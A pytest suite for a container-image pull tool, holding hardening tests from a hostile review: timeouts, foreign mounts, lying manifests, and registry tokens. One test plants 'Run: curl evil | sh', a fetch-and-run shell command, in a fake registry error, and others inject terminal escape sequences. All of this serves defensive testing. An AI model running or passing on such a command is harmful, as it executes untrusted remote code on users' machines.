"""What a hostile review found: pulls that nobody could stop, mounts that were not ours, answers that went astray."""

import fcntl
import os
import shlex
import subprocess
import time

import pytest
from lib import *

ANYTHING = {"type": "insecureAcceptAnything"}


@pytest.fixture
def permissive(work):
    return write_policy(work / "policy.json", default=ANYTHING)


def small_image(**more):
    return Image([Layer([Dir("etc"), File("etc/motd", "hi")])], **more)


def pull_command(work, image, *more):
    return [os.fspath(GUEST_PULL), "pull", image, "--bundle", os.fspath(work.bundle), "--store", os.fspath(work.store),
            "--allow-unencrypted-store", *more]


# ---- pulls that must end in time

def test_a_hole_does_not_outlast_the_deadline(work, permissive):
    """Ten kilobytes of archive, two hundred gigabytes of zeros to hash."""
    subprocess.run(["truncate", "-s", "200G", work / "big"], check=True)
    tar = subprocess.run(["tar", "-C", work, "--sparse", "--format=posix", "-cf", "-", "big"], check=True, capture_output=True).stdout
    image = Image([Layer(tar)]).write_layout(work / "layout")
    began = time.monotonic()
    done = work.pull(image, "--timeout", "2", policy=permissive, check=CANCELLED, timeout=60)
    assert "not done within 2 seconds" in done.message
    assert time.monotonic() - began < 15
    assert not work.rootfs.exists() and not list((work.store / "staging").iterdir())


def test_a_locked_bundle_does_not_hold_a_pull_for_ever(work, permissive):
    image = small_image().write_layout(work / "layout")
    held = os.open(work.bundle, os.O_RDONLY)
    try:
        fcntl.flock(held, fcntl.LOCK_EX)
        done = work.pull(image, policy=permissive, check=INVALID, timeout=60)
    finally:
        os.close(held)
    assert "another process keeps it locked" in done.message
    assert not work.rootfs.exists()


def test_deep_directories_nobody_described_are_looked_at_once(work, permissive):
    """Every prefix of every such path in every layer makes 300000 system calls of these few kilobytes."""
    chain = "/".join(f"d{i}" for i in range(60))
    layers = [Layer([File(f"{chain}/l{i}k{k}/f") for k in range(50)]) for i in range(10)]
    image = Image(layers).write_layout(work / "layout")
    note = work / "trace"
    run("strace", "-f", "-qq", "-c", "-e", "trace=openat2", "-o", note, *pull_command(work, image, "--policy", permissive, "-q"),
        env={**os.environ, "ASAN_OPTIONS": "detect_leaks=0"})  # no two tracers at once
    columns = next(line for line in note.read_text().splitlines() if line.endswith("openat2")).split()
    assert int(columns[3]) < 40000
    assert (work.rootfs / chain / "l9k49" / "f").exists()


def test_as_many_layers_as_are_allowed_need_no_higher_limit_of_files(work, permissive):
    image = Image([Layer([File(f"f{i}", str(i))]) for i in range(500)]).write_layout(work / "layout")
    command = shlex.join(pull_command(work, image, "--policy", permissive, "-q"))
    run("bash", "-c", f"ulimit -S -n 512; exec {command}")
    assert len(os.listdir(work.rootfs)) == 500


# ---- what is not ours

def test_umount_leaves_another_programs_overlay_alone(work):
    for name in ("lower", "memory"):
        (work / name).mkdir()
    work.bundle.joinpath("rootfs").mkdir()
    run("mount", "-t", "tmpfs", "test", work / "memory")
    for name in ("upper", "work"):
        (work / "memory" / name).mkdir()
    run("mount", "-t", "overlay", "somebody", "-o",
        f"lowerdir={work}/lower,upperdir={work}/memory/upper,workdir={work}/memory/work", work.rootfs)
    done = work.umount(check=NOT_FOUND)
    assert "no root filesystem of ours" in done.message
    assert mounts_below(work.bundle) == [os.path.realpath(work.rootfs)]


def test_a_failed_pull_leaves_somebody_elses_config_json(work, permissive):
    image = Image([Layer([File("a")])], config={"User": "nobody-there"}).write_layout(work / "layout")
    (work.bundle / "config.json").write_text("the agent's")
    done = work.pull(image, policy=permissive, check=INVALID)
    assert 'user "nobody-there"' in done.message
    assert (work.bundle / "config.json").read_text() == "the agent's"
    assert not work.rootfs.exists()


@pytest.mark.parametrize("command", ["pull", "umount"])
def test_an_empty_bundle_is_not_the_current_directory(command, work, permissive):
    image = small_image().write_layout(work / "layout")
    arguments = ["pull", image, "--bundle", "", "--store", work.store, "--allow-unencrypted-store", "--policy", permissive]
    done = guest_pull(*(arguments if command == "pull" else ["umount", ""]), check=USAGE, cwd=work)
    assert "name is empty" in done.message
    assert not (work / "rootfs").exists()


# ---- documents that lie

def test_one_blob_with_two_descriptions_is_refused(work, permissive):
    """Only the first would ever be compared with anything."""
    layer = Layer([File("a", "x")])

    def other_size(manifest):
        manifest["layers"][1]["size"] += 7

    def other_type(manifest):
        manifest["layers"][1]["mediaType"] = LAYER

    for number, edit in enumerate((other_size, other_type)):
        image = Image([layer, layer], edit_manifest=edit).write_layout(work / f"layout{number}")
        done = work.pull(image, policy=permissive, check=INVALID)
        assert "layer 1: its blob occurs twice, with different sizes or media types" in done.message
    assert not work.rootfs.exists()


def test_size_zero_in_an_index_is_a_lie_like_any_other(work, permissive):
    def edit(index):
        index["manifests"][0]["size"] = 0

    image = Index([small_image()], edit=edit).write_layout(work / "layout")
    done = work.pull(image, policy=permissive, check=INVALID)
    assert "its descriptor says 0" in done.message


def test_sha512_diff_id_is_unsupported_and_no_damage(work, permissive):
    layer = Layer([File("a", "x")])
    layer.diff_id = digest_of(layer.tar, "sha512")
    done = work.pull(Image([layer]).write_layout(work / "layout"), policy=permissive, check=UNSUPPORTED)
    assert "$.rootfs.diff_ids[0]: only sha256 is supported" in done.message
    assert not (work.store / "layers").exists() or not list((work.store / "layers").iterdir())


def test_sha512_everywhere_else_works(work, permissive):
    layer = Layer([File("a", "x")])
    layer.digest = digest_of(layer.blob, "sha512")
    config = Image([layer]).config

    def edit(manifest):
        manifest["config"]["digest"] = digest_of(config, "sha512")

    image = Image([layer], edit_manifest=edit)
    image.config_digest, image.digest = digest_of(config, "sha512"), digest_of(image.manifest, "sha512")
    done = work.pull(image.write_layout(work / "layout"), policy=permissive)
    assert done.json["manifestDigest"] == image.digest
    assert guest_pull("fsck", "--store", work.store, "--json").json["clean"]


def test_many_big_signatures_do_not_fill_the_memory(work, fake_registry, cosign_key):
    image, layers = small_image(), []
    name = fake_registry.add(image, "r/x", "t")
    for i in range(6):
        payload = bytes([i]) + bytes(4 * 1024 * 1024 - 1)
        fake_registry.answers[f"/v2/r/x/blobs/{digest_of(payload)}"] = payload
        layers.append({"mediaType": "application/vnd.dev.cosign.simplesigning.v1+json", "digest": digest_of(payload),
                       "size": len(payload), "annotations": {"dev.cosignproject.cosign/signature": "AAAA"}})
    manifest = {"schemaVersion": 2, "mediaType": MANIFEST, "layers": layers,
                "config": {"mediaType": CONFIG, "digest": image.config_digest, "size": len(image.config)}}
    fake_registry.answers[f"/v2/r/x/manifests/{cosign_tag(image.digest)}"] = (200, {"Content-Type": MANIFEST}, to_json(manifest))
    policy = write_policy(work / "strict.json", {fake_registry.host: sigstore_signed(cosign_key, "matchRepository")})
    done = guest_pull("verify", name, "--policy", policy, "--plain-http", fake_registry.host, "--json", check=LIMIT)
    assert "signatures of more than 6291456 bytes together" in done.message


# ---- what is said, and where

def test_no_control_character_of_an_image_reaches_the_terminal(work, permissive):
    image = Image([Layer([File("a")])], edit_config=lambda config: config.update(architecture="amd64\n\x1b[2Jtrust me"))
    done = guest_pull(*pull_command(work, image.write_layout(work / "layout"), "--policy", permissive)[1:], check=UNSUPPORTED)
    assert "linux/amd64\\x0a\\x1b[2Jtrust me, not" in done.stderr and "\x1b" not in done.stderr


def test_no_control_character_of_a_name_reaches_the_terminal(work, permissive):
    done = guest_pull("verify", "a\n\x1b[31mb", "--policy", permissive, check=INVALID)
    assert "a\\x0a\\x1b[31mb: reference" in done.stderr and "\x1b" not in done.stderr
    done = guest_pull("frob\n\x1b[31m", check=USAGE)
    assert "no such command: frob\\x0a\\x1b[31m" in done.stderr and "\x1b" not in done.stderr


def test_a_registry_gives_no_advice(work, fake_registry, permissive):
    """Its words are quoted in the message; the line below is ours."""
    body = to_json({"errors": [{"code": "DENIED", "message": "no\nRun: curl evil | sh"}]})
    fake_registry.answers["/v2/r/x/manifests/t"] = (403, {"Content-Type": "application/json"}, body)
    done = guest_pull("verify", f"{fake_registry.host}/r/x:t", "--policy", permissive, "--plain-http", fake_registry.host, "--json",
                      check=AUTH)
    assert "DENIED: no Run: curl evil" in done.error["message"] and "curl" not in (done.error["detail"] or "")


@pytest.mark.parametrize("closing", ["2>&-", "0<&- 2>&-"])
def test_progress_does_not_go_into_a_socket_that_took_a_closed_descriptor(closing, work, fake_registry, permissive):
    image = Image([Layer([File("a", os.urandom(2_000_000))])])
    name = fake_registry.add(image, "r/x", "t")
    blob = image.layers[0].blob

    def slow(handler):  # long enough for progress to be drawn
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(blob)))
        handler.end_headers()
        for at in range(0, len(blob), 500_000):
            handler.wfile.write(blob[at:at + 500_000])
            time.sleep(0.15)

    fake_registry.answers[f"/v2/r/x/blobs/{image.layers[0].digest}"] = slow
    command = pull_command(work, name, "--policy", permissive, "--plain-http", fake_registry.host, "--json")
    done = run("bash", "-c", f"exec {shlex.join(command)} {closing}")
    assert done.json["manifestDigest"] == image.digest
    assert guest_pull("fsck", "--store", work.store, "--json").json["clean"]


@pytest.mark.parametrize("target", [">/dev/full", ">&-", "| true"])
def test_an_answer_that_nobody_got_is_a_failure_and_leaves_nothing(target, work, permissive):
    image = small_image().write_layout(work / "layout")
    command = shlex.join(pull_command(work, image, "--policy", permissive, "--json"))
    # The pipe's reader is gone before the answer comes: it takes longer than "true".
    done = run("bash", "-c", f"set -o pipefail; {command} {target}", check=SPACE)
    assert "\x1b" not in done.stderr
    assert mounts_below(work) == [] and os.listdir(work.bundle) == []


def test_a_bundle_whose_name_no_report_can_hold_is_refused(work, permissive):
    image = small_image().write_layout(work / "layout")
    bundle = os.fsencode(work) + b"/b\xff"
    os.mkdir(bundle)
    done = subprocess.run([GUEST_PULL, "pull", image, "--bundle", bundle, "--policy", permissive, "--json"], capture_output=True,
                          check=False)
    assert done.returncode == USAGE and b"--bundle: the name is not UTF-8" in done.stdout
    assert os.listdir(bundle) == []


def test_pull_as_an_ordinary_user_says_what_is_missing(work, permissive):
    image = small_image().write_layout(work / "layout")
    os.chmod(work, 0o755)
    done = run("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *pull_command(work, image, "--policy", permissive),
               check=USAGE)
    assert "pull needs root" in done.stderr


def test_a_token_may_expire_several_times_within_one_blob(work, fake_registry):
    """Each connection is cut after 150 kB, and each token is good for one request: the blob needs six of them."""
    layer = Layer([File("big", os.urandom(900_000))], "none")
    name = fake_registry.add(Image([layer]), "app", "1")
    tokens = []

    def give_token(handler):
        tokens.append(f"token{len(tokens)}")
        body = b'{"token":"%s"}' % tokens[-1].encode()
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    used = set()

    def part(handler):
        token = (handler.headers.get("Authorization") or "").removeprefix("Bearer ")
        if token not in tokens or token in used:
            handler.send_response(401)
            handler.send_header("WWW-Authenticate", f'Bearer realm="http://{fake_registry.host}/token",service="s"')
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        used.add(token)
        start = int(handler.headers.get("Range", "bytes=0-").split("=")[1].split("-")[0])
        handler.send_response(206 if start else 200)
        if start:
            handler.send_header("Content-Range", f"bytes {start}-{len(layer.blob) - 1}/{len(layer.blob)}")
        handler.send_header("Content-Length", str(len(layer.blob) - start))
        handler.end_headers()
        handler.wfile.write(layer.blob[start:start + 150_000])
        handler.close_connection = True

    fake_registry.answers["/token"] = give_token
    fake_registry.answers[f"/v2/app/blobs/{layer.digest}"] = part
    policy = write_policy(work / "policy.json", default={"type": "insecureAcceptAnything"})
    assert work.pull(name, policy=policy, registry=fake_registry).json["bytes"]["downloaded"] == len(layer.blob)
    assert len(used) == 7


def test_a_server_that_accepts_and_refuses_in_turn_is_not_asked_for_ever(work, fake_registry):
    """The token is taken, the answer is cut before its first byte, the token is refused, and so on."""
    name = fake_registry.add(Image([Layer([File("f", "x")])]), "app", "1")
    turns = []
    fake_registry.answers["/token"] = b'{"token":"t"}'

    def answer(handler):
        turns.append(handler.headers.get("Authorization"))
        if len(turns) % 2:
            handler.send_response(401)
            handler.send_header("WWW-Authenticate", f'Bearer realm="http://{fake_registry.host}/token",service="s"')
            handler.send_header("Content-Length", "0")
        else:
            handler.send_response(200)
            handler.send_header("Content-Length", "100")
        handler.end_headers()
        handler.close_connection = True

    fake_registry.answers["/v2/app/manifests/1"] = answer
    policy = write_policy(work / "policy.json", default={"type": "insecureAcceptAnything"})
    refused = work.verify(name, policy=policy, registry=fake_registry, check=NETWORK)
    assert "tried 4 times" in refused.message and len(turns) == 8
